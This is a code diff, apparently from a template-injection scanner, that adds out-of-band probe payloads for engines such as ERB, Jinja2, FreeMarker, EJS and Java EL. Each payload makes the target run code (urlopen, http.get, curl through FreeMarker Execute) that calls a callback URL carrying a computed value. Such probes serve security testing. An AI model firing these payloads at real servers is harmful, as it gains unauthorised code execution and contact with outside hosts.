@@ -114,6 +114,23 @@ WAITING = (
     "{{{{__import__('time').sleep({seconds})}}}}",
 )
 
+_PYTHON = "__import__('urllib.request').request.urlopen('{url}/%d'%({left}*{right}))"
+_HTTP = "process.mainModule.require('http').get('{url}/'+{left}*{right})"
+# The same engines in calls that ask for an address, whose last part the engine has to compute.
+CALLING = (
+    (
+        "<%=[require('open-uri'),URI.open('{url}/'+({left}*{right}).to_s)]%>"
+        f"{{{{{{{{cycler.__init__.__globals__.__builtins__.{_PYTHON}}}}}}}}}"
+        '${{"freemarker.template.utility.Execute"?new()("curl {url}/"+({left}*{right})?c)}}'
+    ),
+    (
+        f'<%={_HTTP}%>{{{{{{{{range.constructor("return {_HTTP}")()}}}}}}}}'
+        "${{new java.net.URL('{url}/'+{left}*{right}).openStream()}}"
+    ),
+    f"{{{{{{{{['{{url}}/'~({{left}}*{{right}})]|map('file_get_contents')|join}}}}}}}}${{{{{_PYTHON}}}}}",
+    f"{{{{{{{{{_PYTHON}}}}}}}}}",
+)
+
 # Engines that may be held to what they are given, and what shows that one is not: behind its letters stands a type's name, or
 # a number that a function of the language wrote in hexadecimal. Python's engines, JavaScript's, Nunjucks, Twig, PHP's own, Java's,
 # and JavaScript's that know names alone.
